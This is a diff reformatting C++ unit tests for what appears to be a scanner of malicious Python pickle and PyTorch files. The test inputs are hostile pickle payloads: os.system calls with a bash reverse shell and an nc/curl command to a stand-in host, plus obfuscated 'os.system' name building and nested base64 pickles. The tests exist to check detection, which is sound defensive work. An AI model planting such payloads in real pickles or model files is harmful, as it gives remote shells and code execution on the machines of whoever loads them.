@@ -10,8 +10,14 @@ namespace {
 using pickle::Level;
 
 Assembler& storage(Assembler& out, std::string_view key) {
-  return out.mark().str("storage").global("torch", "FloatStorage").str(key).str("cpu").integer(6)
-      .tuple().persid();
+  return out.mark()
+      .str("storage")
+      .global("torch", "FloatStorage")
+      .str(key)
+      .str("cpu")
+      .integer(6)
+      .tuple()
+      .persid();
 }
 
 Assembler& hooks(Assembler& out) {
@@ -60,28 +66,46 @@ TEST(World, BlindWorldStillSuspectsIt) {
 }
 
 TEST(World, AddressIsPulledOutOfACommand) {
-  const Ran ran = run(Assembler().global("posix", "system")
-                          .str("bash -i >& /dev/tcp/host.invalid/4444 0>&1").tuple1().reduce().stop());
+  const Ran ran = run(Assembler()
+                          .global("posix", "system")
+                          .str("bash -i >& /dev/tcp/host.invalid/4444 0>&1")
+                          .tuple1()
+                          .reduce()
+                          .stop());
   EXPECT_EQ(ran.evidence("address"), "host.invalid:4444");
   EXPECT_EQ(ran.evidence("name"), "os.system");
 }
 
 TEST(World, NetcatAndUrlsArePulledOut) {
-  const Ran ran = run(Assembler().global("os", "system")
-                          .str("curl http://host.invalid/x; nc -e sh host.invalid 99").tuple1()
-                          .reduce().stop());
+  const Ran ran = run(Assembler()
+                          .global("os", "system")
+                          .str("curl http://host.invalid/x; nc -e sh host.invalid 99")
+                          .tuple1()
+                          .reduce()
+                          .stop());
   EXPECT_EQ(ran.evidence("url"), "http://host.invalid/x");
   EXPECT_EQ(ran.evidence("address"), "host.invalid:99");
 }
 
 TEST(World, CommandOfAListIsALine) {
-  const Ran ran = run(Assembler().global("subprocess", "Popen").mark().empty_list().mark().str("sh")
-                          .str("-c").str("echo x").appends().tuple().reduce().stop());
+  const Ran ran = run(Assembler()
+                          .global("subprocess", "Popen")
+                          .mark()
+                          .empty_list()
+                          .mark()
+                          .str("sh")
+                          .str("-c")
+                          .str("echo x")
+                          .appends()
+                          .tuple()
+                          .reduce()
+                          .stop());
   EXPECT_EQ(ran.evidence("command"), "sh -c echo x");
 }
 
 TEST(World, EvalShowsItsCode) {
-  const Ran ran = run(Assembler().global("__builtin__", "eval").str("1+1").tuple1().reduce().stop());
+  const Ran ran =
+      run(Assembler().global("__builtin__", "eval").str("1+1").tuple1().reduce().stop());
   EXPECT_EQ(ran.evidence("code"), "1+1");
   EXPECT_TRUE(ran.has(202));
 }
@@ -95,30 +119,60 @@ TEST(World, NestedPickleIsAViewOfItsOwn) {
 }
 
 TEST(World, NestedPickleIsFoundThroughAStream) {
-  const Ran ran = run(Assembler().global("pickle", "load").global("io", "BytesIO").bytes("N.").tuple1()
-                          .reduce().tuple1().reduce().stop());
+  const Ran ran = run(Assembler()
+                          .global("pickle", "load")
+                          .global("io", "BytesIO")
+                          .bytes("N.")
+                          .tuple1()
+                          .reduce()
+                          .tuple1()
+                          .reduce()
+                          .stop());
   ASSERT_EQ(ran.nested.size(), 1u) << ran.report();
   EXPECT_EQ(ran.nested[0].second, "N.");
 }
 
 TEST(World, NestedPickleIsFoundThroughAnUnpickler) {
-  const Ran ran = run(Assembler().global("builtins", "getattr").global("pickle", "Unpickler")
-                          .global("io", "BytesIO").bytes("N.").tuple1().reduce().tuple1().reduce()
-                          .str("load").tuple2().reduce().empty_tuple().reduce().stop());
+  const Ran ran = run(Assembler()
+                          .global("builtins", "getattr")
+                          .global("pickle", "Unpickler")
+                          .global("io", "BytesIO")
+                          .bytes("N.")
+                          .tuple1()
+                          .reduce()
+                          .tuple1()
+                          .reduce()
+                          .str("load")
+                          .tuple2()
+                          .reduce()
+                          .empty_tuple()
+                          .reduce()
+                          .stop());
   ASSERT_EQ(ran.nested.size(), 1u) << ran.report();
   EXPECT_EQ(ran.nested[0].second, "N.");
 }
 
 TEST(World, NestedBytesAreDecodedFirst) {
-  const Ran ran = run(Assembler().global("pickle", "loads").global("base64", "b64decode").str("Ti4=")
-                          .tuple1().reduce().tuple1().reduce().stop());
+  const Ran ran = run(Assembler()
+                          .global("pickle", "loads")
+                          .global("base64", "b64decode")
+                          .str("Ti4=")
+                          .tuple1()
+                          .reduce()
+                          .tuple1()
+                          .reduce()
+                          .stop());
   ASSERT_EQ(ran.nested.size(), 1u) << ran.report();
   EXPECT_EQ(ran.nested[0].second, "N.");
 }
 
 TEST(World, StoragesOfPlainPicklesAreNestedTorchFiles) {
-  const Ran ran = run(Assembler().global("torch.storage", "_load_from_bytes").bytes("xyz").tuple1()
-                          .reduce().stop());
+  const Ran ran = run(Assembler()
+                          .global("torch.storage", "_load_from_bytes")
+                          .bytes("xyz")
+                          .tuple1()
+                          .reduce()
+                          .stop());
   EXPECT_EQ(ran.worst, Level::inert) << ran.report();
   ASSERT_EQ(ran.nested.size(), 1u);
   EXPECT_EQ(ran.nested[0].first, "torch.load");
@@ -126,18 +180,49 @@ TEST(World, StoragesOfPlainPicklesAreNestedTorchFiles) {
 
 TEST(World, JoinedTextIsALiveName) {
   Assembler out;
-  out.proto(4).global("builtins", "getattr").str("").str("join").tuple2().reduce().empty_list().mark()
-      .str("o").str("s").appends().tuple1().reduce().str("system").raw("\x93").str("echo x").tuple1()
-      .reduce().stop();
+  out.proto(4)
+      .global("builtins", "getattr")
+      .str("")
+      .str("join")
+      .tuple2()
+      .reduce()
+      .empty_list()
+      .mark()
+      .str("o")
+      .str("s")
+      .appends()
+      .tuple1()
+      .reduce()
+      .str("system")
+      .raw("\x93")
+      .str("echo x")
+      .tuple1()
+      .reduce()
+      .stop();
   const Ran ran = run(out);
   EXPECT_EQ(ran.worst, Level::malicious) << ran.report();
 }
 
 TEST(World, ItemsOfTextMakeNames) {
   Assembler out;
-  out.proto(4).global("operator", "getitem").str("xos").integer(1).tuple2().reduce().pop().str("os")
-      .global("operator", "concat").str("sys").str("tem").tuple2().reduce().raw("\x93").str("echo x")
-      .tuple1().reduce().stop();
+  out.proto(4)
+      .global("operator", "getitem")
+      .str("xos")
+      .integer(1)
+      .tuple2()
+      .reduce()
+      .pop()
+      .str("os")
+      .global("operator", "concat")
+      .str("sys")
+      .str("tem")
+      .tuple2()
+      .reduce()
+      .raw("\x93")
+      .str("echo x")
+      .tuple1()
+      .reduce()
+      .stop();
   const Ran ran = run(out);
   EXPECT_EQ(ran.worst, Level::malicious) << ran.report();
 }
@@ -149,34 +234,52 @@ TEST(World, TrustSpeaksForUnknownNamesOnly) {
   ASSERT_TRUE(trust.add("collections.*"));
   WorldOptions options;
   options.trust = &trust;
-  const Ran trusted = run(Assembler().proto(2).global("mypkg.models", "Net").empty_tuple().newobj()
-                              .empty_dict().build().stop(), options);
+  const Ran trusted = run(Assembler()
+                              .proto(2)
+                              .global("mypkg.models", "Net")
+                              .empty_tuple()
+                              .newobj()
+                              .empty_dict()
+                              .build()
+                              .stop(),
+                          options);
   EXPECT_EQ(trusted.worst, Level::inert) << trusted.report();
   EXPECT_EQ(trusted.waived, std::vector<std::string>{"mypkg.models.Net"});
-  const Ran system = run(Assembler().global("os", "system").str("x").tuple1().reduce().stop(), options);
+  const Ran system =
+      run(Assembler().global("os", "system").str("x").tuple1().reduce().stop(), options);
   EXPECT_EQ(system.worst, Level::malicious);
   const Ran unlisted = run(Assembler().global("os", "unlisted").stop(), options);
   EXPECT_EQ(unlisted.worst, Level::suspicious);
-  const Ran text = run(Assembler().global("collections", "OrderedDict").str("x").tuple1().reduce()
-                           .stop(), options);
+  const Ran text = run(
+      Assembler().global("collections", "OrderedDict").str("x").tuple1().reduce().stop(), options);
   EXPECT_EQ(text.worst, Level::suspicious);
   options.blind = true;
-  const Ran blind = run(Assembler().global("os", "system").str("x").tuple1().reduce().stop(), options);
+  const Ran blind =
+      run(Assembler().global("os", "system").str("x").tuple1().reduce().stop(), options);
   EXPECT_EQ(blind.worst, Level::suspicious) << blind.report();
 }
 
 TEST(World, ShadowedModulesHaveNoFacts) {
   WorldOptions options;
   options.shadowed = {"collections"};
-  const Ran ran = run(Assembler().global("collections", "OrderedDict").empty_tuple().reduce().stop(),
-                      options);
+  const Ran ran =
+      run(Assembler().global("collections", "OrderedDict").empty_tuple().reduce().stop(), options);
   EXPECT_EQ(ran.worst, Level::suspicious);
   EXPECT_TRUE(ran.has(121)) << ran.report();
 }
 
 TEST(World, ChangingAClassPoisonsTheView) {
-  const Ran ran = run(Assembler().global("collections", "OrderedDict").none().empty_dict().tuple2()
-                          .build().pop().global("collections", "Counter").empty_tuple().reduce().stop());
+  const Ran ran = run(Assembler()
+                          .global("collections", "OrderedDict")
+                          .none()
+                          .empty_dict()
+                          .tuple2()
+                          .build()
+                          .pop()
+                          .global("collections", "Counter")
+                          .empty_tuple()
+                          .reduce()
+                          .stop());
   EXPECT_TRUE(ran.poisoned) << ran.report();
   EXPECT_TRUE(ran.has(125)) << ran.report();
   EXPECT_GE(ran.events.size(), 3u) << ran.report();
@@ -189,8 +292,18 @@ TEST(World, StorageClassNamesAreNotImportedByTorch) {
 }
 
 TEST(World, PersistentIdsMustBeStorages) {
-  const Ran ran = run(Assembler().proto(2).mark().str("storage").global("os", "system").str("0")
-                          .str("cpu").integer(1).tuple().persid().stop(), {}, torch_profile());
+  const Ran ran = run(Assembler()
+                          .proto(2)
+                          .mark()
+                          .str("storage")
+                          .global("os", "system")
+                          .str("0")
+                          .str("cpu")
+                          .integer(1)
+                          .tuple()
+                          .persid()
+                          .stop(),
+                      {}, torch_profile());
   EXPECT_EQ(ran.worst, Level::suspicious);
   EXPECT_TRUE(ran.has(124)) << ran.report();
 }
@@ -199,7 +312,8 @@ TEST(World, ReferencesOfAnotherMachineAreForgotten) {
   const auto world = make_catalogue_world();
   for (const char* name : {"OrderedDict", "nothing", "OrderedDict"}) {
     Ran out;
-    MemorySource source(Assembler().global("collections", name).empty_tuple().reduce().stop().data());
+    MemorySource source(
+        Assembler().global("collections", name).empty_tuple().reduce().stop().data());
     Recorder recorder(out);
     pickle::Machine machine(source, {}, *world, recorder, Limits{});
     machine.run();
